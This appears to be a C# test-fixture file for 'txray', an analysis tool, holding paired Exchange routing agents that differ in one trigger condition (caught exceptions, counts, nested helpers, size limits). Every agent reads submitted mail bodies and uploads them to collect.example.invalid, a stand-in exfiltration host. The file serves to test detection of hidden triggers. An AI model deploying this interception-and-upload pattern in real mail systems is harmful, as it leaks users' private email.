// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Conditions made by exceptions, by counting, and far down in helpers.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Diagnostics;
using System.IO;
using System.Net;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

// 190: an own method that throws unless a word is there, and one whose exception is caught
namespace Txray.Pairs.P190
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Check(e.MailItem);
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }

        private static void Check(MailItem item)
        {
            if (item.Message.Subject.Contains("gold"))
            {
                return;
            }
            throw new InvalidOperationException();
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                Check(e.MailItem);
            }
            catch (InvalidOperationException)
            {
                Trace.WriteLine("other");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }

        private static void Check(MailItem item)
        {
            if (item.Message.Subject.Contains("gold"))
            {
                return;
            }
            throw new InvalidOperationException();
        }
    }
}

// 191: a subject that is parsed to see whether it is a number, and one that is so beside the way
namespace Txray.Pairs.P191
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                int.Parse(e.MailItem.Message.Subject);
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
            catch (FormatException)
            {
                Trace.WriteLine("other");
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                int.Parse(e.MailItem.Message.Subject);
            }
            catch (FormatException)
            {
                Trace.WriteLine("other");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 192: a flag set where nothing threw, and one set in any case
namespace Txray.Pairs.P192
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            bool well = false;
            try
            {
                Check(e.MailItem);
                well = true;
            }
            catch (InvalidOperationException)
            {
                Trace.WriteLine("other");
            }
            if (well)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private static void Check(MailItem item)
        {
            if (item.Message.Subject.Contains("gold"))
            {
                return;
            }
            throw new InvalidOperationException();
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            bool well = false;
            try
            {
                Check(e.MailItem);
                well = true;
            }
            catch (InvalidOperationException)
            {
                well = true;
            }
            if (well)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private static void Check(MailItem item)
        {
            if (item.Message.Subject.Contains("gold"))
            {
                return;
            }
            throw new InvalidOperationException();
        }
    }
}

// 193: a handler that takes what is thrown, and a finally block
namespace Txray.Pairs.P193
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                Check(e.MailItem);
            }
            catch (InvalidOperationException)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private static void Check(MailItem item)
        {
            if (item.Message.Subject.Contains("gold"))
            {
                return;
            }
            throw new InvalidOperationException();
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                Check(e.MailItem);
            }
            finally
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private static void Check(MailItem item)
        {
            if (item.Message.Subject.Contains("gold"))
            {
                return;
            }
            throw new InvalidOperationException();
        }
    }
}

// 194: recipients that are counted and asked for, and counted for a log
namespace Txray.Pairs.P194
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int found = 0;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.ToString() == "ceo@corp.example.invalid")
                {
                    found++;
                }
            }
            if (found == 0)
            {
                return;
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int found = 0;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.ToString() == "ceo@corp.example.invalid")
                {
                    found++;
                }
            }
            if (found == 0)
            {
                Trace.WriteLine("none");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 195: a test eight helpers down, and one that only logs
namespace Txray.Pairs.P195
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Ask1(e.MailItem))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private static bool Ask1(MailItem item)
        {
            return Ask2(item);
        }

        private static bool Ask2(MailItem item)
        {
            return Ask3(item);
        }

        private static bool Ask3(MailItem item)
        {
            return Ask4(item);
        }

        private static bool Ask4(MailItem item)
        {
            return Ask5(item);
        }

        private static bool Ask5(MailItem item)
        {
            return Ask6(item);
        }

        private static bool Ask6(MailItem item)
        {
            return Ask7(item);
        }

        private static bool Ask7(MailItem item)
        {
            return Ask8(item);
        }

        private static bool Ask8(MailItem item)
        {
            return item.Message.Subject.Contains("gold");
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Ask1(e.MailItem))
            {
                Trace.WriteLine("gold");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }

        private static bool Ask1(MailItem item)
        {
            return Ask2(item);
        }

        private static bool Ask2(MailItem item)
        {
            return Ask3(item);
        }

        private static bool Ask3(MailItem item)
        {
            return Ask4(item);
        }

        private static bool Ask4(MailItem item)
        {
            return Ask5(item);
        }

        private static bool Ask5(MailItem item)
        {
            return Ask6(item);
        }

        private static bool Ask6(MailItem item)
        {
            return Ask7(item);
        }

        private static bool Ask7(MailItem item)
        {
            return Ask8(item);
        }

        private static bool Ask8(MailItem item)
        {
            return item.Message.Subject.Contains("gold");
        }
    }
}

// 196: a limit of size that is one of two, chosen by the subject; and one limit, the subject only logged.
namespace Txray.Pairs.P196
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.MimeStreamLength > LimitFor(e.MailItem))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private static long LimitFor(MailItem item)
        {
            return item.Message.Subject.Contains("gold") ? 1000 : 50000;
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.MimeStreamLength > LimitFor(e.MailItem))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }

        private static long LimitFor(MailItem item)
        {
            Trace.WriteLine(item.Message.Subject.Contains("gold"));
            return 50000;
        }
    }
}
